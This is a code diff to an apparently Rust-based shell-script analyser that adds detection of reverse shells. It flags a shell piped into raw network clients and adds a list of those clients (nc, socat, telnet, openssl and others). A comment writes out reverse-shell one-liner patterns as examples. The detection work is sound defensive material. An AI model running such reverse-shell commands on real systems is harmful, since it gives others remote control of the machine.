@@ -773,6 +773,19 @@ impl<'l> Walk<'l> {
             // What a following `|` receives (see `Walk::script`): the flags, and the printed
             // text, which is moved out of the verdict once `take_verdict` has used it (no copy
             // per command). The file lists stay with the verdict: no pipe reads them.
+            // `cat f | sh -i 2>&1 | nc host port > f`, `sh 0<p | nc host port 1>p`: a shell that
+            // runs its stdin hands its output to a raw network connection, which feeds it back
+            // through a fifo: a reverse shell (the `-e`, `/dev/tcp` and socat forms are the
+            // rules').
+            if piped_in && prev.is_some_and(|p| p.runs_stdin) && is_raw_socket(&cmd.program) {
+                self.add(
+                    &finding::REMOTE_SCRIPT_EXECUTION,
+                    format!(
+                        "a shell's output goes to `{}`: it runs commands from a network connection (a reverse shell)",
+                        cmd.program
+                    ),
+                );
+            }
             let e = &v.effects;
             let mut effects = Piped {
                 network: e.network,
@@ -1371,6 +1384,22 @@ impl<'l> Walk<'l> {
             self.report.merge(sub.report);
         }
     }
+}
+
+/// Clients that connect a pipe to a raw network socket.
+fn is_raw_socket(program: &str) -> bool {
+    matches!(
+        program,
+        "nc" | "ncat"
+            | "netcat"
+            | "nc.traditional"
+            | "nc.openbsd"
+            | "socat"
+            | "telnet"
+            | "cryptcat"
+            | "openssl"
+            | "busybox-nc"
+    )
 }
 
 /// What the walk of a nested script hands to the walk of its command ([`Walk::absorb`]), and
